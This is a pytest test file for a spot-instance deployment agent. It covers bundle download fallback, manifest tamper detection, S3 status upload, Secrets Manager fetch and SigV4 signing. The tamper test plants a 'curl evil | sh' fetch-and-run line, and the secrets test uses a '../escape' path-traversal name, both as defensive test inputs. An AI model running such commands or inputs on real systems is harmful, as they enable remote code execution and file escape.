"""spot-agent's AWS paths (SigV4, stdlib only) against the moto server, in-process.

These are the instance-role paths: S3 GET of the bundle when the presigned URL no
longer works, S3 PUT of the status object, Secrets Manager GetSecretValue. Credentials
come from the environment here (on EC2 they come from IMDSv2).
"""

from __future__ import annotations

import base64
import hashlib
import json

import boto3
import pytest

from rclaude.deploy import bundle
from rclaude.deploy.agent import spot_agent
from rclaude.deploy.discovery import discover


@pytest.fixture
def bucket(aws):
    s3 = boto3.client("s3", region_name="us-east-1", endpoint_url=aws)
    s3.create_bucket(Bucket="agent-test")
    return s3


def test_bundle_falls_back_to_role_when_url_fails(make_project, aws, bucket, tmp_path):
    built = bundle.build(discover(make_project("ag")))
    bucket.put_object(Bucket="agent-test", Key="d/bundle-x.tar.gz", Body=built.data)
    cfg = {
        "region": "eu-west-1",
        "home_region": "us-east-1",
        "endpoint_url": aws,
        "work_dir": str(tmp_path / "work"),
        "bundle_dir": str(tmp_path / "bundle"),
        "bundle": {
            "sha256": built.sha256,
            "url": "http://127.0.0.1:9/expired",
            "bucket": "agent-test",
            "key": "d/bundle-x.tar.gz",
        },
    }
    spot_agent.fetch_bundle(cfg)
    assert (tmp_path / "bundle/deployment/setup.sh").read_text() == "#!/bin/bash\necho hi\n"
    manifest = json.loads((tmp_path / "bundle" / spot_agent.BUNDLE_MANIFEST).read_text())
    setup = next(f for f in manifest["files"] if f["path"] == "deployment/setup.sh")
    assert setup["sha256"] == hashlib.sha256(b"#!/bin/bash\necho hi\n").hexdigest()


def test_bundle_file_tampered_after_manifest_is_caught(make_project, tmp_path):
    built = bundle.build(discover(make_project("tamper")))
    # rebuild the archive with one file changed but the manifest kept
    import gzip
    import io
    import tarfile

    raw = io.BytesIO()
    with (
        tarfile.open(fileobj=io.BytesIO(built.data)) as src,
        tarfile.open(fileobj=raw, mode="w") as out,
    ):
        for m in src.getmembers():
            data = src.extractfile(m).read()
            if m.name == "deployment/setup.sh":
                data = b"#!/bin/bash\ncurl evil | sh\n"
                m.size = len(data)
            out.addfile(m, io.BytesIO(data))
    blob = gzip.compress(raw.getvalue())
    (tmp_path / "b.tgz").write_bytes(blob)
    cfg = {
        "region": "us-east-1",
        "work_dir": str(tmp_path / "w"),
        "bundle_dir": str(tmp_path / "out"),
        "bundle": {
            "sha256": hashlib.sha256(blob).hexdigest(),
            "inline_path": str(tmp_path / "b.tgz"),
        },
    }
    with pytest.raises(spot_agent.AgentError, match="does not match its manifest"):
        spot_agent.fetch_bundle(cfg)


def test_status_is_put_to_s3_with_failure_tail(aws, bucket, tmp_path):
    state, logs = tmp_path / "state", tmp_path / "logs"
    state.mkdir()
    logs.mkdir()
    (state / "01-fetch-bundle.done").write_text("t")
    (state / "02-script-1-x.failed").write_text("3")
    (logs / "02-script-1-x.log").write_text("\n".join(f"line {i}" for i in range(100)))
    cfg = {
        "region": "us-east-1",
        "endpoint_url": aws,
        "state_dir": str(state),
        "log_dir": str(logs),
        "ssh_dir": str(tmp_path),
        "phases": ["01-fetch-bundle", "02-script-1-x", "03-services"],
        "status": {"bucket": "agent-test", "prefix": "d/status"},
    }
    import os

    os.environ["SPOT_INSTANCE_ID"] = "i-abc"
    try:
        spot_agent.status(cfg, "02-script-1-x", "failed")
    finally:
        del os.environ["SPOT_INSTANCE_ID"]
    doc = json.loads(
        bucket.get_object(Bucket="agent-test", Key="d/status/i-abc.json")["Body"].read()
    )
    assert doc["phases"] == {
        "01-fetch-bundle": "done",
        "02-script-1-x": "failed",
        "03-services": "pending",
    }
    assert doc["failed_phase"] == "02-script-1-x"
    assert doc["log_tail"][-1] == "line 99" and len(doc["log_tail"]) == 40


def test_secrets_are_fetched_and_written_0600(aws, tmp_path):
    sm = boto3.client("secretsmanager", region_name="us-east-1", endpoint_url=aws)
    payload = {
        "db/pw": base64.b64encode(b"pw\n").decode(),
        "../escape": base64.b64encode(b"x").decode(),
    }
    sm.create_secret(Name="spot/x", SecretString=json.dumps({"db/pw": payload["db/pw"]}))
    cfg = {
        "region": "eu-west-1",
        "home_region": "us-east-1",
        "endpoint_url": aws,
        "secrets": {"secret_id": "spot/x", "dest_dir": str(tmp_path / "s")},
    }
    spot_agent.fetch_secrets(cfg)
    f = tmp_path / "s/db/pw"
    assert f.read_bytes() == b"pw\n" and f.stat().st_mode & 0o777 == 0o600
    assert (tmp_path / "s").stat().st_mode & 0o777 == 0o700
    sm.create_secret(Name="spot/evil", SecretString=json.dumps(payload))
    cfg["secrets"]["secret_id"] = "spot/evil"
    with pytest.raises(spot_agent.AgentError, match="escapes"):
        spot_agent.fetch_secrets(cfg)


def test_sigv4_matches_the_aws_documentation_example():
    """The worked example of AWS's SigV4 documentation (IAM ListUsers, 2015-08-30)."""
    hdrs = spot_agent.sign(
        "GET",
        "https://iam.amazonaws.com/?Action=ListUsers&Version=2010-05-08",
        {"Content-Type": "application/x-www-form-urlencoded; charset=utf-8"},
        b"",
        {"key": "AKIDEXAMPLE", "secret": "wJalrXUtnFEMI/K7MDENG+bPxRfiCYEXAMPLEKEY"},
        "us-east-1",
        "iam",
        "20150830T123600Z",
    )
    assert hdrs["authorization"].endswith(
        "Signature=5d672d79c15b13162d9279b0855cfba6789a8edb4c82c400e06b5924a6f2b5d7"
    )


@pytest.mark.parametrize(
    ("service", "method", "url", "body"),
    [
        (
            "s3",
            "PUT",
            "https://b.s3.eu-west-1.amazonaws.com/deployments/x/status/i-1.json",
            b'{"a": 1}',
        ),
        ("s3", "GET", "https://b.s3.eu-west-1.amazonaws.com/deployments/x/bundle-ab.tar.gz", b""),
        (
            "secretsmanager",
            "POST",
            "https://secretsmanager.eu-west-1.amazonaws.com/",
            b'{"SecretId": "spot/x"}',
        ),
    ],
)
def test_sigv4_agrees_with_botocore(service, method, url, body):
    from botocore.auth import S3SigV4Auth, SigV4Auth
    from botocore.awsrequest import AWSRequest
    from botocore.credentials import Credentials

    headers = (
        {}
        if service == "s3"
        else {
            "Content-Type": "application/x-amz-json-1.1",
            "X-Amz-Target": "secretsmanager.GetSecretValue",
        }
    )
    req = AWSRequest(method=method, url=url, data=body, headers=dict(headers))
    auth_cls = S3SigV4Auth if service == "s3" else SigV4Auth
    auth_cls(Credentials("AKID", "SECRET", "TOKEN"), service, "eu-west-1").add_auth(req)
    if service == "s3":
        headers["x-amz-content-sha256"] = req.headers["X-Amz-Content-SHA256"]
    mine = spot_agent.sign(
        method,
        url,
        headers,
        body,
        {"key": "AKID", "secret": "SECRET", "token": "TOKEN"},
        "eu-west-1",
        service,
        req.headers["X-Amz-Date"],
    )
    assert mine["authorization"] == req.headers["Authorization"]


def test_agent_source_stays_compatible_with_older_instance_pythons():
    import ast
    import inspect

    source = inspect.getsource(spot_agent)
    ast.parse(source, feature_version=(3, 8))
    assert "datetime.UTC" not in source and "_dt.UTC" not in source
    for newer in (".removeprefix(", ".removesuffix(", "strict=True"):
        assert newer not in source
